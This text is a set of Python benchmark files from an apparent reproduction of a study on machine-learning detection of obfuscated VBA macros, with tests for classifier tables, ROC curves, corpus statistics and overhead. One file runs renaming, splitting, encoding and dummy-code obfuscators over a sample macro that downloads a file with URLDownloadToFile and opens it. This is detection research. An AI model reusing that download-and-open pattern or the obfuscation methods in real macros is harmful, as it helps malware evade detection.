        f"  ({len(documents) / baseline:.1f} docs/s)\n"
        f"window+drift attached, off  : {off:.3f} s"
        f"  ({off_overhead:.3f}x bare)\n"
        f"window+drift+registry, live : {on:.3f} s"
        f"  ({on_overhead:.3f}x bare)\n"
        f"prometheus scrape (+window) : {scrape * 1000:.3f} ms/scrape\n"
        f"window snapshots kept       : {len(live.window)}\n"
    )
    print("\n" + text)
    save_artifact("obs_windowed_overhead.txt", text)

    # The tick path on a disabled registry is one attribute check: the
    # attachments must not cost the no-op mode its 5% budget.
    assert off_overhead < MAX_OFF_OVERHEAD, text

    benchmark.pedantic(
        lambda: [attached_off.run(document) for document in documents[:10]],
        iterations=1,
        rounds=3,
    )
