"""Telemetry overhead — off must be free, on must be cheap.

The engine promises an explicit no-op mode: with the default
:data:`~repro.obs.NULL_REGISTRY` the only telemetry cost on the
``run_source`` hot path is one ``metrics.enabled`` attribute check per
stage.  This bench holds that promise to a number:

* **off vs. baseline** — ``run_source`` with telemetry off must stay
  within 5% of the pre-telemetry stage loop (the PR 2 ``run_source``
  body, reconstructed inline), asserted on best-of-N rounds;
* **on vs. off** — a live registry's cost is measured and recorded for
  the artifact, not asserted (spans are allowed to cost something).

Environment knobs: ``REPRO_BENCH_OBS_SOURCES`` (default 120 macros),
``REPRO_BENCH_OBS_ROUNDS`` (default 5).
"""

from __future__ import annotations

import os
import random
import time

from conftest import save_artifact

from repro.engine import AnalysisEngine, MacroRecord, MacroStage
from repro.corpus.benign import generate_benign_module
from repro.obs import MetricsRegistry

N_SOURCES = int(os.environ.get("REPRO_BENCH_OBS_SOURCES", "120"))
N_ROUNDS = int(os.environ.get("REPRO_BENCH_OBS_ROUNDS", "5"))
MAX_OFF_OVERHEAD = 1.05  # telemetry off: < 5% over the PR 2 baseline


def build_sources(n_sources: int) -> list[str]:
    rng = random.Random(777)
    return [
        generate_benign_module(rng, target_length=rng.randint(400, 2500))
        for _ in range(n_sources)
    ]


def _baseline_run_source(stages, source: str) -> MacroRecord:
    """The pre-telemetry ``run_source`` body: the bare stage loop."""
    macro = MacroRecord(module_name="Macro1", source=source)
    for stage in stages:
        if isinstance(stage, MacroStage) and macro.kept:
            stage.process_macro(macro)
    macro.analysis = None
    return macro


def _best_of(rounds: int, run) -> float:
    best = float("inf")
    for _ in range(rounds):
        start = time.perf_counter()
        run()
        best = min(best, time.perf_counter() - start)
    return best


def test_run_source_telemetry_off_is_free(benchmark):
    sources = build_sources(N_SOURCES)
    engine_off = AnalysisEngine.for_features(("V",))
    registry = MetricsRegistry()
    engine_on = AnalysisEngine.for_features(("V",), metrics=registry)
    stages = engine_off.stages

    # Warm every lazy import before the first timed round.
    _baseline_run_source(stages, sources[0])
    engine_off.run_source(sources[0])
    engine_on.run_source(sources[0])

    baseline = _best_of(
        N_ROUNDS,
        lambda: [_baseline_run_source(stages, source) for source in sources],
    )
    off = _best_of(
        N_ROUNDS, lambda: [engine_off.run_source(source) for source in sources]
    )
    on = _best_of(
        N_ROUNDS, lambda: [engine_on.run_source(source) for source in sources]
    )

    off_overhead = off / baseline
    on_overhead = on / baseline
    text = (
        "OBS OVERHEAD — run_source hot path, best of "
        f"{N_ROUNDS} rounds x {len(sources)} macros\n"
        f"PR 2 baseline loop : {baseline:.3f} s"
        f"  ({len(sources) / baseline:.1f} macros/s)\n"
        f"telemetry off      : {off:.3f} s  ({off_overhead:.3f}x baseline)\n"
        f"telemetry on       : {on:.3f} s  ({on_overhead:.3f}x baseline)\n"
        f"spans recorded     : {registry.histogram('span.analyze').count}\n"
    )
    print("\n" + text)
    save_artifact("obs_overhead.txt", text)

    # Parity: telemetry must never change what the engine computes.
    base_macro = _baseline_run_source(stages, sources[0])
    for engine in (engine_off, engine_on):
        macro = engine.run_source(sources[0])
        assert (macro.features["V"] == base_macro.features["V"]).all()

    assert off_overhead < MAX_OFF_OVERHEAD, text

    benchmark.pedantic(
        lambda: [engine_off.run_source(source) for source in sources[:30]],
        iterations=1,
        rounds=3,
    )
