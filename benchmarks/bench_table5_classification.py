"""Table V — the central evaluation: 5 classifiers × {V, J} feature sets.

Regenerates the accuracy/precision/recall grid under stratified CV and
checks the paper's comparative claims:

* the V feature set dominates the J baseline on F₂;
* the strong classifiers (MLP/RF/SVM) beat LDA and BNB on V features;
* Bernoulli NB is the weakest of the five, as in the paper.

The benchmark times one full train/predict cycle per classifier on the V
matrix (the deployment-relevant cost).
"""

from __future__ import annotations

import numpy as np
import pytest
from conftest import save_artifact

from repro.features.matrix import extract_features
from repro.pipeline.classifiers import make_classifier, preprocessor_for
from repro.pipeline.reporting import render_table5


def test_table5_grid(benchmark, experiment_result):
    text = benchmark(render_table5, experiment_result)
    print("\n" + text)
    save_artifact("table5.txt", text)

    cells = experiment_result.cells
    # V beats J on F2 for the majority of classifiers (paper: all five).
    wins = sum(
        1
        for name in ("SVM", "RF", "MLP", "LDA", "BNB")
        if cells[("V", name)].f2 >= cells[("J", name)].f2
    )
    assert wins >= 3
    # The strong trio clearly beats BNB on V features.
    bnb = cells[("V", "BNB")].f2
    assert max(cells[("V", n)].f2 for n in ("SVM", "RF", "MLP")) > bnb
    # Everything learned something real.
    for cell in cells.values():
        assert cell.auc > 0.75


@pytest.mark.parametrize("name", ["SVM", "RF", "MLP", "LDA", "BNB"])
def test_classifier_fit_predict_speed(benchmark, dataset, name):
    X = extract_features(dataset.sources, "V")
    y = dataset.labels
    factory = preprocessor_for(name)
    if factory is not None:
        X = factory().fit_transform(X)

    def fit_and_predict() -> np.ndarray:
        model = make_classifier(name, random_state=0)
        model.fit(X, y)
        return model.predict(X)

    predictions = benchmark.pedantic(fit_and_predict, iterations=1, rounds=2)
    assert predictions.shape == y.shape
