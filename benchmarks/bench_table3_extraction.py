"""Table III — macros extracted per group and obfuscation rates.

Runs the preprocessing pipeline (extract → ≥150-byte filter → dedup →
label) over the corpus and checks the paper's headline rates: ~98% of
malicious macros obfuscated vs ~2% of benign, with malicious macros
heavily reused across files.
"""

from __future__ import annotations

from conftest import save_artifact

from repro.pipeline.dataset import DatasetBuilder
from repro.pipeline.reporting import render_table3


def test_table3_extraction(benchmark, corpus, dataset):
    text = render_table3(dataset)
    summary = dataset.table3_summary()
    print("\n" + text)

    # Paper: 98.4% of malicious macros obfuscated, 1.7% of benign.
    assert summary["malicious"]["obfuscated_pct"] > 90.0
    assert summary["benign"]["obfuscated_pct"] < 10.0
    # Macro reuse: malicious files outnumber unique malicious macros
    # (the paper's dedup halves the count relative to files).
    assert summary["malicious"]["macros"] < summary["malicious"]["files"]
    # Benign files average several macros each.
    assert summary["benign"]["macros"] > 2 * summary["benign"]["files"]

    reuse = dataset.dropped_duplicates
    text += f"\nduplicates dropped: {reuse}, short dropped: {dataset.dropped_short}"
    save_artifact("table3.txt", text)

    documents = corpus.documents[:60]
    truth = corpus.truth

    def extract_subset() -> int:
        return len(DatasetBuilder().build(documents, truth).samples)

    benchmark.pedantic(extract_subset, iterations=1, rounds=3)
