"""Ablation — SVM hyperparameters around the paper's C = 150, γ = 0.03.

A small grid sweep shows how sensitive the Table V SVM row is to the
published parameters.
"""

from __future__ import annotations

import numpy as np
from conftest import save_artifact

from repro.features.matrix import extract_features
from repro.ml.metrics import f2_score
from repro.ml.model_selection import train_test_split
from repro.ml.preprocessing import StandardScaler
from repro.ml.svm import SVC

C_GRID = (15.0, 150.0, 1500.0)
GAMMA_GRID = (0.003, 0.03, 0.3)


def test_svm_parameter_grid(benchmark, dataset):
    X = extract_features(dataset.sources, "V")
    y = dataset.labels
    X_train, X_test, y_train, y_test = train_test_split(
        X, y, test_size=0.3, random_state=0
    )
    scaler = StandardScaler().fit(X_train)
    X_train = scaler.transform(X_train)
    X_test = scaler.transform(X_test)

    lines = [
        "ABLATION: SVM grid around the paper's C=150, gamma=0.03 (F2 on held-out 30%)",
        f"{'C':>8} " + " ".join(f"g={g:<7}" for g in GAMMA_GRID),
    ]
    scores = {}
    for C in C_GRID:
        row = [f"{C:>8.0f}"]
        for gamma in GAMMA_GRID:
            model = SVC(C=C, gamma=gamma, max_iter=40, random_state=0)
            model.fit(X_train, y_train)
            f2 = f2_score(y_test, model.predict(X_test))
            scores[(C, gamma)] = f2
            row.append(f"{f2:<9.3f}")
        lines.append(" ".join(row))
    text = "\n".join(lines)
    print("\n" + text)
    save_artifact("ablation_svm_params.txt", text)

    # The paper's setting is competitive: within 0.1 F2 of the grid best.
    best = max(scores.values())
    assert scores[(150.0, 0.03)] >= best - 0.15

    def fit_paper_svm() -> np.ndarray:
        model = SVC(C=150.0, gamma=0.03, max_iter=40, random_state=0)
        model.fit(X_train, y_train)
        return model.predict(X_test)

    benchmark.pedantic(fit_paper_svm, iterations=1, rounds=2)
