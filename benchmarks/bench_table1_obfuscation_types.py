"""Table I — the four obfuscation types, demonstrated and timed.

Regenerates the taxonomy table by applying each technique to the same
sample macro and reporting what changed; the benchmark times each
transform (obfuscation throughput matters when generating the corpus).
"""

from __future__ import annotations

from conftest import save_artifact

from repro.obfuscation.base import make_context
from repro.obfuscation.encode import StringEncoder
from repro.obfuscation.logic import DummyCodeInserter
from repro.obfuscation.rename import RandomRenamer
from repro.obfuscation.split import StringSplitter
from repro.vba.analyzer import analyze

SAMPLE = (
    "Sub DownloadReport()\n"
    "    Dim reportUrl As String\n"
    '    reportUrl = "http://intranet.example/reports/monthly.xlsx"\n'
    "    Dim localPath As String\n"
    '    localPath = Environ("TEMP") & "\\\\monthly.xlsx"\n'
    "    URLDownloadToFile 0, reportUrl, localPath, 0, 0\n"
    "    Workbooks.Open localPath\n"
    "End Sub\n"
)

TRANSFORMS = (
    ("O1", "Random obfuscation", "Randomize name", RandomRenamer()),
    ("O2", "Split obfuscation", "Split strings", StringSplitter()),
    ("O3", "Encoding obfuscation", "Encode strings", StringEncoder()),
    ("O4", "Logic obfuscation", "Insert and reorder code", DummyCodeInserter()),
)


def _describe(code: str, out: str) -> str:
    before = analyze(code)
    after = analyze(out)
    return (
        f"chars {len(code)} -> {len(out)}, "
        f"strings {len(before.string_literals)} -> {len(after.string_literals)}, "
        f"identifiers {len(before.declared_identifiers)} -> "
        f"{len(after.declared_identifiers)}"
    )


def test_table1_obfuscation_types(benchmark):
    lines = [
        "TABLE I: Type of obfuscation techniques",
        f"{'#':<4} {'Type':<22} {'Method':<26} effect on sample macro",
    ]
    for tag, type_name, method, transform in TRANSFORMS:
        out = transform.apply(SAMPLE, make_context(11))
        assert out != SAMPLE, f"{tag} must change the macro"
        lines.append(
            f"{tag:<4} {type_name:<22} {method:<26} {_describe(SAMPLE, out)}"
        )
    text = "\n".join(lines)
    print("\n" + text)
    save_artifact("table1.txt", text)

    def run_all() -> None:
        context = make_context(7)
        source = SAMPLE
        for _, _, _, transform in TRANSFORMS:
            source = transform.apply(source, context)

    benchmark(run_all)
