"""Figure 7 — ROC curves of the best V and best J classifiers.

The paper reports AUC 0.950 for MLP on V features vs 0.812 for RF on J
features (Δ = 0.138).  This bench regenerates both pooled-CV ROC curves
(ASCII art + CSV artifacts) and asserts the V-over-J AUC ordering.
"""

from __future__ import annotations

import numpy as np
from conftest import save_artifact

from repro.ml.metrics import roc_auc_score, roc_curve
from repro.pipeline.reporting import render_fig7, render_roc_csv


def test_fig7_roc_curves(benchmark, experiment_result):
    text = benchmark(render_fig7, experiment_result)
    print("\n" + text)
    save_artifact("fig7.txt", text)

    best_v = experiment_result.best_by_f2("V")
    best_j = experiment_result.best_by_f2("J")
    save_artifact(
        "fig7_roc_v.csv",
        render_roc_csv(experiment_result, "V", best_v.classifier),
    )
    save_artifact(
        "fig7_roc_j.csv",
        render_roc_csv(experiment_result, "J", best_j.classifier),
    )

    # Set-level AUC ordering (small tolerance: pooled-CV AUC on a scaled
    # corpus carries sampling noise of a few hundredths).
    max_auc_v = max(
        cell.auc for (fs, _), cell in experiment_result.cells.items() if fs == "V"
    )
    max_auc_j = max(
        cell.auc for (fs, _), cell in experiment_result.cells.items() if fs == "J"
    )
    assert max_auc_v >= max_auc_j - 0.02
    assert best_v.auc > 0.9  # paper: 0.950

    # The V curve should dominate at the low-FPR operating region that
    # matters for deployment.
    fpr_v, tpr_v = best_v.roc_points()
    fpr_j, tpr_j = best_j.roc_points()
    grid = np.linspace(0.0, 0.2, 50)
    tpr_v_interp = np.interp(grid, fpr_v, tpr_v)
    tpr_j_interp = np.interp(grid, fpr_j, tpr_j)
    assert tpr_v_interp.mean() >= tpr_j_interp.mean() - 0.05


def test_roc_computation_speed(benchmark, experiment_result):
    cell = experiment_result.cell("V", "MLP")
    y_true = cell.cv.pooled_true
    scores = cell.cv.pooled_scores

    def compute() -> float:
        fpr, tpr, _ = roc_curve(y_true, scores)
        return roc_auc_score(y_true, scores)

    auc = benchmark(compute)
    assert 0.0 <= auc <= 1.0
