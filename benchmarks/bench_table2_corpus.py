"""Table II — corpus population: file counts by type and average sizes.

Regenerates the collected-files summary from the synthetic corpus and
checks the paper's structural claims: the Word/Excel split per group and
the benign ≫ malicious average-size gap (sizes are scaled by the profile's
``size_scale``; the *ratio* is the reproduction target).
"""

from __future__ import annotations

from conftest import BENCH_SEED, save_artifact

from repro.avsim.virustotal import label_documents
from repro.corpus.builder import CorpusBuilder
from repro.pipeline.reporting import render_table2


def test_table2_corpus_population(benchmark, corpus, bench_profile):
    summary = corpus.summary()
    text = render_table2(summary)
    print("\n" + text)

    # Structural claims of Table II.
    assert summary["benign"]["files"] == (
        bench_profile.benign_word_files + bench_profile.benign_excel_files
    )
    assert summary["malicious"]["files"] == (
        bench_profile.malicious_word_files + bench_profile.malicious_excel_files
    )
    # Benign collections skew Excel; malicious skew Word (Table II).
    assert summary["benign"]["excel"] > summary["benign"]["word"]
    assert summary["malicious"]["word"] > summary["malicious"]["excel"]
    # Size gap: paper reports 1.1 MB vs 0.06 MB (≈ 18×); scaled corpora
    # shrink absolute sizes, the ratio must stay large.
    ratio = summary["benign"]["avg_size"] / summary["malicious"]["avg_size"]
    text += f"\nbenign/malicious avg size ratio: {ratio:.1f}x (paper ~18x)"
    print(f"benign/malicious avg size ratio: {ratio:.1f}x (paper ~18x)")
    assert ratio > 3.0

    # The VirusTotal-threshold labeling pipeline (Section IV.A) sorts the
    # corpus with ground-truth manual inspection resolving the middle band.
    outcome = label_documents(corpus.documents)
    text += (
        f"\nlabeling: {outcome.labeled_malicious} malicious / "
        f"{outcome.labeled_benign} benign / {outcome.sent_to_manual} manual "
        f"/ {outcome.mislabeled} mislabeled"
    )
    assert outcome.mislabeled <= len(corpus.documents) * 0.15
    save_artifact("table2.txt", text)

    # Benchmark: building a small corpus end to end.
    small = bench_profile.scaled(0.2)

    def build() -> int:
        return len(CorpusBuilder(small, seed=BENCH_SEED).build().documents)

    benchmark.pedantic(build, iterations=1, rounds=3)
