"""Figure 5 — code-length distributions of normal vs obfuscated macros.

The paper's observation: benign lengths are uniformly spread (no
clustering), while obfuscated macros form horizontal bands around a few
lengths (~1500 / 3000 / 15000) because obfuscation-tool configurations fix
the output size.  This bench regenerates both distributions and tests the
clustering statistically.
"""

from __future__ import annotations

import numpy as np
from conftest import save_artifact

from repro.features.entropy import shannon_entropy
from repro.pipeline.reporting import render_fig5


def _cluster_mass(lengths: np.ndarray, targets: tuple[int, ...], tolerance: float) -> float:
    """Fraction of samples within ±tolerance of any target length."""
    hits = np.zeros(len(lengths), dtype=bool)
    for target in targets:
        hits |= np.abs(lengths - target) <= target * tolerance
    return float(hits.mean())


def test_fig5_code_length_distribution(benchmark, dataset, bench_profile):
    normal = np.array(
        [len(s.source) for s in dataset.samples if not s.obfuscated]
    )
    obfuscated = np.array(
        [len(s.source) for s in dataset.samples if s.obfuscated]
    )
    text = render_fig5(normal.tolist(), obfuscated.tolist())
    print("\n" + text)

    targets = bench_profile.length_targets
    tolerance = 0.25
    obfuscated_mass = _cluster_mass(obfuscated, targets, tolerance)
    normal_mass = _cluster_mass(normal, targets, tolerance)
    text += (
        f"\ncluster mass within ±25% of {targets}: "
        f"obfuscated {obfuscated_mass:.2f} vs normal {normal_mass:.2f}"
    )
    print(
        f"cluster mass within ±25% of {targets}: "
        f"obfuscated {obfuscated_mass:.2f} vs normal {normal_mass:.2f}"
    )
    save_artifact("fig5.txt", text)

    # Obfuscated lengths concentrate near the tool targets; normal lengths
    # spread uniformly, so their in-band mass is close to the band width.
    assert obfuscated_mass > normal_mass + 0.15
    # Benign spread: spans the full range with no dominant band.
    assert normal.min() < 1000
    assert normal.max() > 10_000

    sources = [s.source for s in dataset.samples[:80]]

    def length_and_entropy_scan() -> float:
        return sum(shannon_entropy(src) for src in sources)

    benchmark(length_and_entropy_scan)
