"""Extension — which V features carry the detection signal?

Random-forest mean-impurity-decrease importances over the V matrix, grouped
by the obfuscation class each feature targets (Table IV).  Complements the
drop-one-group ablation with a per-feature view.
"""

from __future__ import annotations

import numpy as np
from conftest import save_artifact

from repro.features.matrix import extract_features
from repro.features.vfeatures import V_FEATURE_GROUPS, V_FEATURE_NAMES
from repro.ml.forest import RandomForestClassifier


def test_v_feature_importances(benchmark, dataset):
    X = extract_features(dataset.sources, "V")
    y = dataset.labels
    forest = RandomForestClassifier(n_estimators=60, random_state=0).fit(X, y)
    importances = forest.feature_importances_

    group_of = {
        index: group
        for group, indices in V_FEATURE_GROUPS.items()
        for index in indices
    }
    order = np.argsort(-importances)
    lines = [
        "EXTENSION: RF feature importances on the V set",
        f"{'rank':>4} {'feature':<22} {'group':<12} {'importance':>10}",
    ]
    for rank, index in enumerate(order, start=1):
        lines.append(
            f"{rank:>4} {V_FEATURE_NAMES[index]:<22} "
            f"{group_of[index]:<12} {importances[index]:>10.3f}"
        )
    group_mass = {
        group: float(importances[list(indices)].sum())
        for group, indices in V_FEATURE_GROUPS.items()
    }
    lines.append("group totals: " + ", ".join(
        f"{g}={v:.2f}" for g, v in sorted(group_mass.items())
    ))
    text = "\n".join(lines)
    print("\n" + text)
    save_artifact("feature_importances.txt", text)

    np.testing.assert_allclose(importances.sum(), 1.0, rtol=1e-9)
    # Every obfuscation class contributes some signal.
    assert all(value > 0.01 for value in group_mass.values())

    benchmark.pedantic(
        lambda: RandomForestClassifier(n_estimators=20, random_state=0)
        .fit(X, y)
        .feature_importances_,
        iterations=1,
        rounds=2,
    )
